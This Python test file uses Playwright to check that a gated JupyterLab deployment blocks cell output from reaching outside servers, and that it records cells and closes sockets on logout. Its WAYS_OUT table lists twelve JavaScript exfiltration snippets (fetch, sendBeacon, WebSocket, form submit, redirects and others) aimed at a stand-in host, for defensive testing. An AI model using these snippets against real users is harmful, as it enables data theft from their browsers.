"""JupyterLab in a real browser through the gate: it works inside the frame, and a cell's output leads nowhere."""

from __future__ import annotations

import asyncio
import json
import shutil
import signal
import threading
from collections.abc import AsyncIterator, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.async_api import Frame, Page, TimeoutError, async_playwright

from tests.integration.gate.events import codes
from tests.integration.gate.harness import DOMAIN, PASSWORD, ZoneUnderTest
from tests.integration.gate.test_gate_access import set_policy
from tests.patience import PATIENCE

pytestmark = pytest.mark.browser
START_MILLISECONDS = PATIENCE * 1000
SHOWN = ".jp-NotebookPanel:not(.lm-mod-hidden)"

# Each of them tries to carry data to another server, as output of a cell.
WAYS_OUT = {
    "location": "window.location = '{0}'",
    "location_top": "window.top.location = '{0}'",
    "open": "window.open('{0}')",
    "link_top": "const a = add('a'); a.href = '{0}'; a.target = '_top'; a.click()",
    "form": "const f = add('form'); f.action = '{0}'; f.submit()",
    "meta": "const m = add('meta'); m.httpEquiv = 'refresh'; m.content = '0;url={0}'",
    "image": "new Image().src = '{0}'",
    "fetch": "fetch('{0}', {{mode: 'no-cors'}})",
    "websocket": "new WebSocket('{0}'.replace('http', 'ws'))",
    "frame": "add('iframe').src = '{0}'",
    "beacon": "navigator.sendBeacon('{0}', 'x')",
    "prefetch": "const l = add('link'); l.rel = 'prefetch'; l.href = '{0}'",
}
NAVIGATES = {"location", "form", "meta"}  # Lab's page is gone afterwards, so it cannot say that the script ran
BLOCKED = "chrome-error:"  # what Chromium shows instead of a page to which a policy does not let a frame go
ADD = "const add = name => document.body.appendChild(document.createElement(name));"


class Receiver(ThreadingHTTPServer):
    """A server of somebody else that writes down who calls."""

    def __init__(self) -> None:
        self.calls: list[str] = []
        super().__init__(("127.0.0.1", 0), _Handler)


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Receiver)
        self.server.calls.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"received")

    do_POST = do_GET  # noqa: N815 — the name is the base class's

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def receiver() -> Iterator[Receiver]:
    """A running receiver."""
    server = Receiver()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


@pytest.fixture(scope="module")
def prefix(zone: ZoneUnderTest) -> str:
    """The prefix of alice's running workspace."""
    return zone.start_workspace("alice", "gibleed")


@pytest.fixture
async def page(zone: ZoneUnderTest, prefix: str) -> AsyncIterator[Page]:
    """Lab, opened by alice in Chromium."""
    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.fail("no Chromium on this machine: `make test` installs it")
    async with async_playwright() as playwright:
        arguments = ["--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu"]
        arguments.append(f"--host-resolver-rules=MAP *.{DOMAIN} 127.0.0.1, MAP *.test 127.0.0.1")
        browser = await playwright.chromium.launch(executable_path=chromium, args=arguments)
        page = await (await browser.new_context()).new_page()
        await page.goto(f"{zone.base(prefix)}lab")
        await page.fill("input[name=username]", "alice")
        await page.fill("input[name=password]", PASSWORD)
        await page.click("[type=submit]")
        await lab(page)
        yield page
        await browser.close()


async def lab(page: Page) -> Frame:
    """Return the frame that holds Lab, once it is ready."""
    element = await page.wait_for_selector("iframe.work", timeout=START_MILLISECONDS)
    assert element is not None
    frame = await element.content_frame()
    assert frame is not None
    await frame.wait_for_selector(".jp-Launcher:visible, .jp-NotebookPanel:visible", timeout=START_MILLISECONDS)
    return frame


async def open_notebook(zone: ZoneUnderTest, prefix: str, page: Page, name: str) -> Frame:
    """Open a fresh notebook at its own address and wait until its kernel is idle."""
    home = zone.home / "workspaces" / zone.workspace() / "home"
    cell: dict[str, Any] = {
        "cell_type": "code",
        "id": "a",
        "metadata": {},
        "source": "",
        "outputs": [],
        "execution_count": None,
    }
    kernel = {"name": "python3", "display_name": "Python 3"}
    document = {"cells": [cell], "metadata": {"kernelspec": kernel}, "nbformat": 4, "nbformat_minor": 5}
    (home / f"{name}.ipynb").write_text(json.dumps(document))
    # A layout of its own, so that Lab restores no other notebook beside it.
    await page.goto(f"{zone.base(prefix)}lab/workspaces/{name}/tree/{name}.ipynb")
    frame = await lab(page)
    # The indicator in the toolbar says idle before there is a kernel; the status bar names it.
    idle = frame.locator(".jp-StatusBar-TextItem", has_text="(ipykernel) | Idle")
    await idle.wait_for(timeout=START_MILLISECONDS)
    assert await frame.locator(".jp-Dialog").all_inner_texts() == []
    return frame


async def run(zone: ZoneUnderTest, page: Page, frame: Frame, code: str) -> None:
    """Type into the last cell and run it; Lab drops a cell whose kernel is only just there, so press until it left."""
    try:
        await frame.locator(f"{SHOWN} .jp-CodeCell .cm-content").last.click(timeout=START_MILLISECONDS)
    except TimeoutError:
        raise AssertionError(await frame.locator(".jp-Dialog").all_inner_texts()) from None
    await page.keyboard.insert_text(code)
    async with asyncio.timeout(PATIENCE):
        while code.encode() not in await asyncio.to_thread(codes, zone):
            await page.keyboard.press("Control+Enter")
            await asyncio.sleep(1)


async def test_lab_works_in_the_frame_and_the_bar_says_that_recording_is_on(
    zone: ZoneUnderTest, prefix: str, page: Page
) -> None:
    frame = await open_notebook(zone, prefix, page, "plain")
    assert page.url.startswith(zone.origin("zone"))
    await run(zone, page, frame, "print(6*7)")
    output = frame.locator(".jp-OutputArea-output", has_text="42")
    await output.first.wait_for(timeout=START_MILLISECONDS)
    bar = page.frame_locator("iframe.bar")
    assert "Recording" in await bar.locator("body").inner_text()
    await page.reload()
    await lab(page)


@pytest.mark.long
@pytest.mark.parametrize("name", WAYS_OUT)
async def test_no_output_of_a_cell_leads_out(
    zone: ZoneUnderTest, prefix: str, page: Page, receiver: Receiver, name: str
) -> None:
    address = f"http://elsewhere.test:{receiver.server_port}"
    control = await page.context.new_page()
    await control.goto(f"{address}/control/{name}")
    assert f"/control/{name}" in receiver.calls  # this very browser would reach it
    await control.close()
    frame = await open_notebook(zone, prefix, page, name)
    body = f"window.ran = '{name}';" + ADD + WAYS_OUT[name].format(f"{address}/out/{name}")
    await run(zone, page, frame, f"from IPython.display import Javascript; display(Javascript({body!r}))")
    await (was_blocked(frame) if name in NAVIGATES else has_run(frame, name))
    await asyncio.sleep(2)
    assert [call for call in receiver.calls if call.startswith("/out/")] == []


async def was_blocked(frame: Frame) -> None:
    """Wait until Lab's frame was led away and shows that it was not let go."""
    async with asyncio.timeout(PATIENCE):
        while not frame.url.startswith(BLOCKED):  # noqa: ASYNC110 — there is no event for a page that is not loaded
            await asyncio.sleep(0.1)


async def has_run(frame: Frame, name: str) -> None:
    """Wait until the script of a cell ran in Lab's page; if it does not, tell what the cell shows instead."""
    try:
        await frame.wait_for_function(f"window.ran === '{name}'", timeout=START_MILLISECONDS)
    except TimeoutError:
        shown = await frame.locator(f"{SHOWN} .jp-Cell").all_inner_texts()
        raise AssertionError(f"the script did not run; the notebook at {frame.url} shows {shown}") from None


async def test_a_script_in_a_workspace_can_neither_read_nor_post_to_the_portal(zone: ZoneUnderTest, page: Page) -> None:
    frame = await lab(page)
    for path in ("/", "/hub/login", "/hub/api/user"):
        for options in ("{}", "{mode:'no-cors', credentials:'include'}", "{method:'POST', credentials:'include'}"):
            script = f"fetch('{zone.origin('zone')}{path}', {options}).then(r => 'read', e => 'blocked')"
            assert await frame.evaluate(script) == "blocked"
    parent = "() => { try { return window.parent.document.title } catch (e) { return 'blocked' } }"
    assert await frame.evaluate(parent) == "blocked"


@pytest.mark.long
async def test_a_cell_that_cannot_be_recorded_says_so_in_lab_and_runs_when_it_can_be(
    zone: ZoneUnderTest, prefix: str, page: Page
) -> None:
    frame = await open_notebook(zone, prefix, page, "away")
    await run(zone, page, frame, "print(6*7)")
    zone.processes["audit"].send_signal(signal.SIGSTOP)
    try:
        await page.keyboard.press("Control+Enter")
        said = frame.locator(".jp-OutputArea-output", has_text="the record cannot be written")
        await said.first.wait_for(timeout=START_MILLISECONDS)
        assert "*" not in await frame.locator(f"{SHOWN} .jp-CodeCell .jp-InputPrompt").first.inner_text()
    finally:
        zone.processes["audit"].send_signal(signal.SIGCONT)
    output = frame.locator(".jp-OutputArea-output", has_text="42")
    async with asyncio.timeout(PATIENCE):
        while not await output.count():  # Lab connects anew by and by
            await page.keyboard.press("Control+Enter")
            await asyncio.sleep(1)


async def test_signing_out_closes_the_sockets_of_the_page(zone: ZoneUnderTest, prefix: str, page: Page) -> None:
    def browsers() -> int:
        return int(zone.control("GET", "/workspaces").json()[zone.workspace()]["browsers"])

    before = browsers()
    assert before > 0
    other = await page.context.new_page()
    await other.goto(zone.origin("work") + "/_gate/logout")
    async with asyncio.timeout(PATIENCE):
        while browsers() >= before:  # noqa: ASYNC110 — the gate tells nobody
            await asyncio.sleep(0.1)


@pytest.mark.long
async def test_where_pictures_are_held_none_in_html_is_drawn_and_lab_works(
    zone: ZoneUnderTest, prefix: str, page: Page
) -> None:
    set_policy(zone, {"pictures": False})
    try:
        frame = await open_notebook(zone, prefix, page, "held")
        pixel = "R0lGODlhAQABAIAAAP8AAP8AACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw=="
        drawn = f'<b id=shown>table</b><img id=drawn src="data:image/gif;base64,{pixel}">'
        code = f"from IPython.display import HTML; HTML({drawn!r})"
        await run(zone, page, frame, code)
        await frame.wait_for_selector("#shown")
        await frame.wait_for_selector("#drawn", state="attached")
        assert await frame.evaluate("document.querySelector('#drawn').naturalWidth") == 0
    finally:
        set_policy(zone, {})
